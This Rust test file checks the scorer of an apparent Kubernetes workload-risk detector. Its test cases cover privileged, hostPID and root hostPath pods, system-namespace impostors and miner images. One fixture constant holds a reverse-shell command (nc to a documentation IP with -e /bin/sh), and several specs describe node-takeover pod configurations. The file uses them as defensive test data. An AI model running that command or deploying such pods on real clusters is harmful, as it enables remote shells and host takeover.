use super::*;
use crate::detect::detect;
use crate::workload::decode::from_json;
use crate::workload::{Kind, Workload};

/// The score of a Job in this namespace with this pod spec, in JSON.
fn scored(namespace: &str, pod_spec: &str) -> Score {
    let json = format!(
        r#"{{"metadata":{{"name":"a","namespace":"{namespace}"}},"spec":{{"template":{{"spec":{pod_spec}}}}}}}"#
    );
    let workload = Workload::from_object(Kind::Job, &from_json(json.as_bytes()).unwrap());
    assert_eq!(workload.unreadable.total, 0, "{json}");
    score(&detect(&workload).findings, namespace)
}

fn floors_of(score: &Score) -> Vec<&'static str> {
    score.floors.iter().map(|floor| floor.id).collect()
}

const REVERSE_SHELL: &str = r#""command":["nc","192.0.2.1","1","-e","/bin/sh"]"#;
const ROOT: &str = r#""volumes":[{"name":"v","hostPath":{"path":"/"}}]"#;

#[test]
fn each_floor_needs_all_of_its_parts() {
    let shell = REVERSE_SHELL;
    for (namespace, pod_spec, expected) in [
        ("n", r#"{"containers":[{"name":"c","securityContext":{"privileged":true}}]}"#.to_owned(), vec![]),
        (
            "n",
            r#"{"hostPID":true,"containers":[{"name":"c","securityContext":{"privileged":true}}]}"#
                .to_owned(),
            vec!["node-takeover"],
        ),
        (
            "n",
            format!(r#"{{{ROOT},"containers":[{{"name":"c","securityContext":{{"privileged":true}}}}]}}"#),
            vec!["node-takeover"],
        ),
        (
            "n",
            format!(
                r#"{{"hostPID":true,{ROOT},"containers":[{{"name":"c","securityContext":{{"privileged":true}}}}]}}"#
            ),
            vec!["whole-node"],
        ),
        ("n", format!(r#"{{"hostPID":true,{ROOT},"containers":[{{"name":"c"}}]}}"#), vec![]),
        ("n", format!(r#"{{"containers":[{{"name":"c",{shell}}}]}}"#), vec![]),
        (
            "kube-system",
            format!(r#"{{"containers":[{{"name":"c",{shell}}}]}}"#),
            vec!["attack-in-system-namespace"],
        ),
        (
            "n",
            format!(r#"{{"nodeName":"x","containers":[{{"name":"c",{shell}}}]}}"#),
            vec!["attack-on-chosen-node"],
        ),
        // The label of a host name asks for local data more often than for a victim.
        (
            "n",
            format!(
                r#"{{"nodeSelector":{{"kubernetes.io/hostname":"x"}},"containers":[{{"name":"c",{shell}}}]}}"#
            ),
            vec![],
        ),
        ("n", r#"{"nodeName":"x","containers":[{"name":"c","command":["true"]}]}"#.to_owned(), vec![]),
        (
            "n",
            format!(
                r#"{{"containers":[{{"name":"c","securityContext":{{"capabilities":{{"add":["SYS_ADMIN"]}}}},{shell}}}]}}"#
            ),
            vec!["attack-on-node"],
        ),
        (
            "n",
            format!(
                r#"{{"containers":[{{"name":"c","securityContext":{{"capabilities":{{"add":["SYS_PTRACE"]}}}},{shell}}}]}}"#
            ),
            vec![],
        ),
        (
            "kube-system",
            r#"{"containers":[{"name":"c","image":"someone/kube-proxy"}]}"#.to_owned(),
            vec!["system-impostor"],
        ),
        (
            "kube-system",
            r#"{"containers":[{"name":"c","image":"mirror.example.test/kube-proxy"}]}"#.to_owned(),
            vec![],
        ),
        ("n", r#"{"containers":[{"name":"c","image":"someone/kube-proxy"}]}"#.to_owned(), vec![]),
        ("n", r#"{"containers":[{"name":"c","image":"someone/xmrig"}]}"#.to_owned(), vec!["known-miner"]),
    ] {
        let score = scored(namespace, &pod_spec);
        assert_eq!(floors_of(&score), expected, "{namespace}: {pod_spec}");
        assert!(score.floors.iter().all(|floor| score.severity >= floor.severity), "{pod_spec}");
    }
}

#[test]
fn the_sum_can_be_redone_by_hand() {
    // Host: 35 + 0.6·18 = 45.8, so 46. Placement: 8. Image: 4 + 0.6·1 = 4.6, so 5. No command.
    let score = scored(
        "n",
        r#"{"hostPID":true,"tolerations":[{"operator":"Exists"}],
        "containers":[{"name":"c","image":"alpine","securityContext":{"privileged":true}}]}"#,
    );
    assert_eq!((score.total, score.combination), (46 + 8 + 5, 0));
}
